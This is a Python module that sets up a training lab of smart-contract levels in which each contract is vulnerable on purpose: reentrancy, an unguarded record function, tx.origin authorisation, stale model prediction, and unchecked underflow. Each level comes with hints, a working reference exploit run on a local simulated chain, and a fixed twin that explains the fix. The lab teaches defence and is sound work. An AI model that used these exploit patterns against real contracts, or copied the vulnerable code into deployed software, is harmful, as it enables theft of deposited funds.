"""The attack lab: Ethernaut-style levels on deliberately vulnerable variants of the SUM contracts.

Each level deploys a fresh, small "mini trainer" (``contracts/lab/``) holding the deposits of honest
contributors; one function in it has a classic bug. You play as ``level.player`` (Mallory): read the
code, find the bug, exploit it from Python, then check with ``level.validate()``. Every level has a
fixed twin (``fixed=True``) on which the same exploit fails, and a reference exploit.

>>> import sumkit as sk
>>> sk.lab.levels()["reentrancy"]                          # doctest: +ELLIPSIS
'Drain the trainer: ...'
>>> level = sk.lab.level("reentrancy")
>>> level.validate()
False
>>> level.solution()                                       # the reference exploit
>>> level.validate()
True

The contracts are deliberately vulnerable: they are for this lab only; never deploy them anywhere else.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any

from eth_utils import is_address, to_checksum_address

from .artifacts import CONTRACTS
from .chain import Chain, Contract, Receipt
from .units import days, ether, format_ether

if TYPE_CHECKING:
    import pandas as pd

SCALE = 10**9  # sumkit's fixed-point scale: 1.0 is stored as 10**9
DEPOSIT = ether(1)  # every contribution in the lab pays exactly this
REFUND_WAIT = days(1)
OWNER_CLAIM_WAIT = days(9)
POSITIVE = (SCALE, 0)  # the lab model predicts 1 for this sample
NEGATIVE = (0, SCALE)  # ... and 0 for this one
WEIGHTS = (SCALE, -SCALE)  # a 2-feature DensePerceptron: predicts 1 when x[0] > x[1]
SLOW = SCALE // 10  # learning rate 0.1: one bad sample does not flip the model
FAST = SCALE  # learning rate 1.0: the model agrees with whatever it has just learned


class _Text(str):
    """A string that shows as plain text in a notebook (no quotes, real line breaks)."""

    def __repr__(self) -> str:
        return str(self)

    def _repr_pretty_(self, p: Any, cycle: bool) -> None:
        p.text(str(self))


@dataclass(frozen=True)
class _Spec:
    name: str
    title: str
    goal: str
    hints: tuple[str, ...]
    source: str  # relative to contracts/
    contract: str  # the vulnerable contract
    fixed_contract: str
    excerpt: tuple[tuple[str, str], ...]  # (contract, function) pairs to show; the fixed twin is looked up
    fix: str
    setup: Callable[[Level], None]
    won: Callable[[Level, str], bool]
    exploit: Callable[[Level], None]


class Level:
    """One level: a fresh deployment of a vulnerable (or fixed) mini trainer, and its victims.

    ``contract`` is the target (it holds the deposits), ``model`` its ``DensePerceptron``,
    ``player`` your account (Mallory), ``ids`` the ids of notable contributions, ``owed`` the wei the
    honest contributors are still owed. Create it with :func:`level`.
    """

    def __init__(self, spec: _Spec, chain: Chain, player: str, fixed: bool) -> None:
        self._spec = spec
        self.name = spec.name
        self.chain = chain
        self.player = player
        self.fixed = fixed
        self.contract: Contract
        self.model: Contract
        self.handler: Contract | None = None
        self.ids: dict[str, int] = {}
        self.owed = 0
        spec.setup(self)
        self.start_balance = chain.balance(player)
        self.owner_start_balance = chain.balance(chain.owner)

    def __repr__(self) -> str:
        kind = "fixed" if self.fixed else "vulnerable"
        return f"<Level {self.name!r} ({kind}): {self.contract.name} at {self.contract.address}>"

    @property
    def goal(self) -> str:
        """What you must achieve, in one line."""
        return self._spec.goal

    @property
    def hints(self) -> tuple[str, ...]:
        """Hints, from gentle to explicit."""
        return self._spec.hints

    @property
    def fix(self) -> str:
        """How the fixed twin closes the hole."""
        return self._spec.fix

    def describe(self) -> str:
        """The level's title, goal, your account, the target, and the hints (shows as text in a notebook).

        >>> print(level.describe())                            # doctest: +SKIP
        """
        lines = [
            f"Level {self.name!r}: {self._spec.title}" + (" (FIXED twin)" if self.fixed else ""),
            f"Goal: {self.goal}",
            f"You play as {self.chain.name_of(self.player)} ({self.player}), "
            f"balance {format_ether(self.chain.balance(self.player))}.",
            f"Target: {self.contract.name} at {self.contract.address}, "
            f"holding {format_ether(self.chain.balance(self.contract.address))} "
            f"(source: contracts/{self._spec.source}).",
            "Hints:",
            *(f"  {i}. {hint}" for i, hint in enumerate(self.hints, 1)),
        ]
        return _Text("\n".join(lines))

    def validate(self, player: str | None = None) -> bool:
        """Whether the level is won (by ``player``, default ``level.player``)."""
        return bool(self._spec.won(self, player or self.player))

    def solution(self) -> None:
        """Run the reference exploit as ``level.player`` (it raises :class:`~sumkit.Reverted` on a fixed twin)."""
        self._spec.exploit(self)

    def excerpt(self, fixed: bool | None = None) -> str:
        """The vulnerable code of this level (or of its fixed twin), with line numbers, read from the .sol file."""
        fixed = self.fixed if fixed is None else fixed
        path = _source_path(self._spec.source)
        if path is None:
            return _Text(f"(the source contracts/{self._spec.source} is not available in this installation)")
        text = path.read_text()
        parts = []
        for contract, function in self._spec.excerpt:
            if fixed and contract == self._spec.contract:
                contract = self._spec.fixed_contract
            part = _function_lines(text, contract, function, path.name)
            if part is not None:
                parts.append(part)
        return _Text("\n\n".join(parts))

    # -- helpers for the player ------------------------------------------------------------------
    def deploy(self, name: str, *args: Any) -> Contract:
        """Deploy the lab contract ``name`` (for example an attacker from contracts/lab/attackers/) as the player."""
        return self.chain.deploy(name, *args, sender=self.player)

    def lure(self, address: str) -> Receipt:
        """Level 'tx_origin' only: the owner falls for the bait and calls ``claimAirdrop()`` on ``address``."""
        if self.name != "tx_origin":
            raise ValueError("lure() belongs to the level 'tx_origin': nobody else falls for airdrops here")
        return Contract(self.chain, "AirdropPhisher", address).transact("claimAirdrop", sender=self.chain.owner)

    def contributions(self) -> pd.DataFrame:
        """Every contribution held by the target, read from the chain (amounts in wei)."""
        import pandas as pd

        rows = []
        if self.handler is not None:
            records = [self.handler.call("get", i) for i in range(self.handler.call("count"))]
        else:
            records = [self.contract.call("contribution", i) for i in range(self.contract.call("contributionCount"))]
        for i, r in enumerate(records):
            rows.append(
                {
                    "id": i,
                    "contributor": self.chain.name_of(r["contributor"]),
                    "label": r["label"],
                    "deposit": r["deposit"],
                    "claimable": r.get("claimable", 0 if r["refunded"] else r["deposit"]),
                    "refunded": r["refunded"],
                    "model_agrees": self.model.call("predict", r["x"]) == r["label"],
                }
            )
        columns = ["id", "contributor", "label", "deposit", "claimable", "refunded", "model_agrees"]
        return pd.DataFrame(rows, columns=columns)


# -- source excerpts ------------------------------------------------------------------------------
def _source_path(source: str) -> Path | None:
    """The .sol file, in the source tree or next to the notebooks (a wheel ships only the artifacts)."""
    for root in (CONTRACTS, Path.cwd() / "contracts", Path.cwd().parent / "contracts"):
        if (root / source).is_file():
            return root / source
    return None


def _function_lines(text: str, contract: str, function: str, filename: str) -> str | None:
    """``function`` of ``contract`` in ``text`` with its NatSpec, as numbered lines (None if it has none)."""
    lines = text.splitlines()
    start = next(i for i, line in enumerate(lines) if re.match(rf"\s*(abstract )?contract {contract}\b", line))
    stop = next((i for i in range(start + 1, len(lines)) if re.match(r"\s*(abstract )?contract ", lines[i])), len(lines))
    first = next((i for i in range(start, stop) if re.match(rf"\s*function {function}\(", lines[i])), None)
    if first is None:
        return None
    top = first
    while top > 0 and lines[top - 1].strip().startswith("///"):
        top -= 1
    depth, end, opened = 0, first, False
    for end in range(first, len(lines)):
        depth += lines[end].count("{") - lines[end].count("}")
        opened = opened or "{" in lines[end]
        if opened and depth == 0:
            break
    body = "\n".join(f"{n + 1:4d}  {lines[n]}" for n in range(top, end + 1))
    return f"// {filename}, contract {contract}\n{body}"


# -- deployment -----------------------------------------------------------------------------------
def _deploy_lab_trainer(level: Level, vulnerable: str, fixed: str, *extra: int, learning_rate: int = SLOW) -> None:
    """A DensePerceptron bound to a new LabTrainer-based contract, both deployed by the owner."""
    chain, owner = level.chain, level.chain.owner
    name = fixed if level.fixed else vulnerable
    trainer_address = chain.next_contract_address(owner, skip=1)
    level.model = chain.deploy("DensePerceptron", trainer_address, list(WEIGHTS), 0, learning_rate, sender=owner)
    level.contract = chain.deploy(name, level.model.address, owner, DEPOSIT, REFUND_WAIT, *extra, sender=owner)
    assert level.contract.address == trainer_address


def _add(level: Level, x: tuple[int, int], label: int, sender: str) -> int:
    return level.contract.transact("addData", list(x), label, sender=sender, value=DEPOSIT).output


def _honest_pair(level: Level) -> None:
    """Alice and Bob add good data: the trainer now owes them their deposits."""
    level.ids["alice"] = _add(level, POSITIVE, 1, level.chain.alice)
    level.ids["bob"] = _add(level, NEGATIVE, 0, level.chain.bob)
    level.owed = 2 * DEPOSIT


def _insolvent(level: Level, player: str) -> bool:
    """The trainer can no longer pay back what the honest contributors are owed."""
    return level.chain.balance(level.contract.address) < level.owed


# -- level: reentrancy ------------------------------------------------------------------------------
def _setup_reentrancy(level: Level) -> None:
    _deploy_lab_trainer(level, "ReentrantRefundTrainer", "ReentrantRefundTrainerFixed")
    _honest_pair(level)


def _exploit_reentrancy(level: Level) -> None:
    chain, player = level.chain, level.player
    attacker = level.deploy("ReentrancyAttacker", level.contract.address)
    attacker.transact("contribute", list(POSITIVE), 1, sender=player, value=DEPOSIT)  # good data: refundable
    chain.travel(seconds=REFUND_WAIT)
    attacker.transact("attack", sender=player)  # receive() asks for the refund again and again
    attacker.transact("withdraw", sender=player)


# -- level: open_record -----------------------------------------------------------------------------
def _setup_open_record(level: Level) -> None:
    chain, owner = level.chain, level.chain.owner
    trainer_address = chain.next_contract_address(owner, skip=2)
    level.model = chain.deploy("DensePerceptron", trainer_address, list(WEIGHTS), 0, SLOW, sender=owner)
    handler = "GuardedRecordHandler" if level.fixed else "OpenRecordHandler"
    level.handler = chain.deploy(handler, trainer_address, sender=owner)
    level.contract = chain.deploy(
        "RecordTrainer", level.handler.address, level.model.address, DEPOSIT, REFUND_WAIT, sender=owner
    )
    assert level.contract.address == trainer_address
    _honest_pair(level)


def _exploit_open_record(level: Level) -> None:
    chain, player = level.chain, level.player
    assert level.handler is not None
    loot = chain.balance(level.contract.address)
    # Record a "contribution" worth everything the trainer holds, without paying; label it as the model does.
    fake = level.handler.transact("record", player, list(POSITIVE), 1, loot, sender=player).output
    chain.travel(seconds=REFUND_WAIT)
    level.contract.transact("refund", fake, sender=player)


# -- level: tx_origin -------------------------------------------------------------------------------
def _setup_tx_origin(level: Level) -> None:
    _deploy_lab_trainer(level, "TxOriginTrainer", "TxOriginTrainerFixed", OWNER_CLAIM_WAIT)
    _honest_pair(level)
    level.chain.travel(seconds=OWNER_CLAIM_WAIT + REFUND_WAIT)  # forgotten deposits: the owner may sweep them


def _won_tx_origin(level: Level, player: str) -> bool:
    """Forgotten deposits were swept (emptied without a refund), not to the owner, and the player gained."""
    chain = level.chain
    swept = 0
    for i in range(level.contract.call("contributionCount")):
        c = level.contract.call("contribution", i)
        swept += c["deposit"] if c["claimable"] == 0 and not c["refunded"] else 0
    owner_gain = chain.balance(chain.owner) - level.owner_start_balance
    return swept > 0 and owner_gain < swept and chain.balance(player) > level.start_balance


def _exploit_tx_origin(level: Level) -> None:
    phisher = level.deploy("AirdropPhisher", level.contract.address)
    level.lure(phisher.address)  # the owner signs; the phisher calls report(id) for every contribution


# -- level: stale_prediction ------------------------------------------------------------------------
def _setup_stale_prediction(level: Level) -> None:
    _deploy_lab_trainer(level, "StalePredictionTrainer", "StalePredictionTrainerFixed", learning_rate=FAST)
    level.ids["alice"] = _add(level, POSITIVE, 1, level.chain.alice)
    level.owed = DEPOSIT


def _won_stale_prediction(level: Level, player: str) -> bool:
    """The player was refunded a contribution the model now disagrees with (bad data, refunded)."""
    for i in range(level.contract.call("contributionCount")):
        c = level.contract.call("contribution", i)
        if c["contributor"] == player and c["refunded"] and level.model.call("predict", c["x"]) != c["label"]:
            return True
    return False


def _exploit_stale_prediction(level: Level) -> None:
    player = level.player
    bad = _add(level, NEGATIVE, 1, player)  # a wrong label; the model learns it and agrees, for now
    _add(level, NEGATIVE, 0, player)  # the right label puts the model back: it disagrees with `bad` again
    level.chain.travel(seconds=REFUND_WAIT)
    level.contract.transact("refund", bad, sender=player)


# -- level: unchecked_take --------------------------------------------------------------------------
def _setup_unchecked_take(level: Level) -> None:
    chain = level.chain
    _deploy_lab_trainer(level, "UncheckedTakeTrainer", "UncheckedTakeTrainerFixed")
    first = [_add(level, POSITIVE, 1, chain.alice), _add(level, NEGATIVE, 0, chain.bob)]
    chain.travel(seconds=REFUND_WAIT)
    for account, i in zip((chain.alice, chain.bob), first):  # alice and bob have good data: they may take
        level.contract.transact("refund", i, sender=account)
    _honest_pair(level)
    level.ids["carol"] = _add(level, NEGATIVE, 1, chain.carol)  # bad data: its deposit may be taken


def _exploit_unchecked_take(level: Level) -> None:
    chain, player, trainer = level.chain, level.player, level.contract
    good = _add(level, POSITIVE, 1, player)
    chain.travel(seconds=REFUND_WAIT)
    trainer.transact("refund", good, sender=player)  # now the player has good data too
    share = DEPOSIT * trainer.call("numGoodData", player) // trainer.call("totalGoodData")
    while chain.balance(trainer.address) >= share:  # report again and again: claimable wraps around
        trainer.transact("report", level.ids["carol"], sender=player)


_SPECS: dict[str, _Spec] = {
    spec.name: spec
    for spec in (
        _Spec(
            name="reentrancy",
            title="The refund that pays first",
            goal="Drain the trainer: take back more than your deposit, so it cannot refund Alice and Bob.",
            hints=(
                "Read refund(): in which order does it check, pay, and record that you were refunded?",
                "When ether is sent to a contract, its receive() function runs, and it may call back.",
                "Deploy the attacker: a = level.deploy('ReentrancyAttacker', level.contract.address); "
                "it adds data, then asks for its refund again from receive().",
                "a.transact('contribute', list(sk.lab.POSITIVE), 1, sender=level.player, value=sk.lab.DEPOSIT), "
                "wait the refund wait with chain.travel(days=1), then a.transact('attack', ...) and 'withdraw'.",
            ),
            source="lab/ReentrantRefund.sol",
            contract="ReentrantRefundTrainer",
            fixed_contract="ReentrantRefundTrainerFixed",
            excerpt=(("ReentrantRefundTrainer", "refund"),),
            fix=(
                "Checks-effects-interactions: mark the contribution as refunded before sending the ether, so a "
                "second refund() fails with AlreadyRefunded; and a reentrancy lock (nonReentrant) refuses any "
                "call back into the trainer while it pays (Reentrancy). sumkit's CollaborativeTrainer does both."
            ),
            setup=_setup_reentrancy,
            won=_insolvent,
            exploit=_exploit_reentrancy,
        ),
        _Spec(
            name="open_record",
            title="The data handler anyone can write to",
            goal="Get paid a deposit you never paid: empty the trainer, so it cannot refund Alice and Bob.",
            hints=(
                "The trainer trusts every record its data handler holds (level.handler). Who may call record()?",
                "A record says who contributed, what, and with which deposit. Nothing checks that the deposit "
                "was paid.",
                "level.handler.transact('record', level.player, list(sk.lab.POSITIVE), 1, amount, "
                "sender=level.player) returns an id; after the refund wait, refund it from the trainer.",
            ),
            source="lab/OpenRecord.sol",
            contract="OpenRecordHandler",
            fixed_contract="GuardedRecordHandler",
            excerpt=(("OpenRecordHandler", "record"), ("RecordTrainer", "refund")),
            fix=(
                "Access control: record() carries the onlyTrainer modifier, so only the trainer, which has just "
                "received the deposit, can record one. Anyone else gets NotTrainer. sumkit's incentive mechanisms "
                "and models are all TrainerOwned, and its DataHandler is part of the trainer (recording is internal)."
            ),
            setup=_setup_open_record,
            won=_insolvent,
            exploit=_exploit_open_record,
        ),
        _Spec(
            name="tx_origin",
            title="The owner check that looks at tx.origin",
            goal="Steal the forgotten deposits that only the owner may sweep: end with more ether than you started.",
            hints=(
                "report() lets the owner sweep old deposits. How does it recognise the owner, and whom does it pay?",
                "tx.origin is the account that signed the transaction, even when the call to the trainer comes "
                "from a contract that account called. msg.sender is the direct caller.",
                "The owner loves free airdrops: level.lure(address) makes the owner call claimAirdrop() on any "
                "contract. Deploy level.deploy('AirdropPhisher', level.contract.address) and lure the owner.",
            ),
            source="lab/TxOriginTake.sol",
            contract="TxOriginTrainer",
            fixed_contract="TxOriginTrainerFixed",
            excerpt=(("TxOriginTrainer", "report"),),
            fix=(
                "Authorise msg.sender, the direct caller, never tx.origin: a contract the owner calls is then "
                "just another caller, and report() refuses it with NotOwner. (tx.origin is only ever right for "
                "checking that the caller is not a contract, and even that is fragile.)"
            ),
            setup=_setup_tx_origin,
            won=_won_tx_origin,
            exploit=_exploit_tx_origin,
        ),
        _Spec(
            name="stale_prediction",
            title="The refund that trusts an old verdict",
            goal="Get a refund for bad data: be refunded a contribution whose label the model now disagrees with.",
            hints=(
                "Look at addData() and refund(): when is the model asked whether it agrees with your data?",
                "A perceptron that gets a sample wrong learns from it. With this model's learning rate, right "
                "after learning it agrees with the sample, whatever its label.",
                "Add NEGATIVE with the wrong label 1, then add NEGATIVE with label 0 to put the model back "
                "(sk.lab.NEGATIVE, value=sk.lab.DEPOSIT); after the refund wait, refund the first one.",
            ),
            source="lab/StalePrediction.sol",
            contract="StalePredictionTrainer",
            fixed_contract="StalePredictionTrainerFixed",
            excerpt=(("StalePredictionTrainer", "addData"), ("StalePredictionTrainer", "refund")),
            fix=(
                "Ask the model at refund time, after the refund wait, when others had time to correct it: "
                "refund() compares classifier.predict(x) with the label now, and bad data fails with "
                "ModelDisagrees (and can be taken by others). That is why sumkit's refund needs the sample again."
            ),
            setup=_setup_stale_prediction,
            won=_won_stale_prediction,
            exploit=_exploit_stale_prediction,
        ),
        _Spec(
            name="unchecked_take",
            title="The unchecked subtraction",
            goal="Take more than Carol's bad deposit: report until the trainer cannot refund Alice and Bob.",
            hints=(
                "report() pays a share deposit * good(you) / good(all) per call, until nothing is left. What "
                "happens when the last share is larger than what is left, inside unchecked { }?",
                "You need good data first: add sk.lab.POSITIVE with label 1, wait a day, refund it.",
                "Then report level.ids['carol'] again and again (while the trainer can still pay a share).",
            ),
            source="lab/UncheckedTake.sol",
            contract="UncheckedTakeTrainer",
            fixed_contract="UncheckedTakeTrainerFixed",
            excerpt=(("UncheckedTakeTrainer", "report"),),
            fix=(
                "Cap the share at what is left and keep the subtraction checked: Solidity 0.8 reverts on "
                "underflow outside unchecked blocks. The last report pays the remainder and the next one fails "
                "with NothingLeftToClaim. Use unchecked only where a check just above proves it safe."
            ),
            setup=_setup_unchecked_take,
            won=_insolvent,
            exploit=_exploit_unchecked_take,
        ),
    )
}

exploits: dict[str, Callable[[Level], None]] = {name: spec.exploit for name, spec in _SPECS.items()}
"""The reference exploit of each level, by name: ``sk.lab.exploits["reentrancy"](level)``."""


def levels() -> dict[str, str]:
    """Every level's name and one-line goal, in lab order.

    >>> list(levels())
    ['reentrancy', 'open_record', 'tx_origin', 'stale_prediction', 'unchecked_take']
    """
    return {name: spec.goal for name, spec in _SPECS.items()}


def level(name: str, chain: Chain | None = None, *, fixed: bool = False, player: str | None = None) -> Level:
    """Deploy a fresh instance of level ``name`` (on ``chain``, default a new one) for ``player``
    (default ``chain.mallory``); ``fixed=True`` deploys the fixed twin instead.

    >>> lvl = level("unchecked_take")
    >>> lvl.validate()
    False
    """
    if name not in _SPECS:
        raise ValueError(f"unknown level {name!r}: choose one of {', '.join(_SPECS)}")
    chain = Chain() if chain is None else chain
    player = chain.mallory if player is None else player
    if not is_address(player) or to_checksum_address(player) not in chain.accounts:
        raise ValueError(f"player {player!r} is not an account of this chain: use chain.mallory, chain.alice, ...")
    if to_checksum_address(player) == chain.owner:
        raise ValueError("the player cannot be chain.owner: the owner deploys the level (and is a victim in one)")
    return Level(_SPECS[name], chain, to_checksum_address(player), fixed)
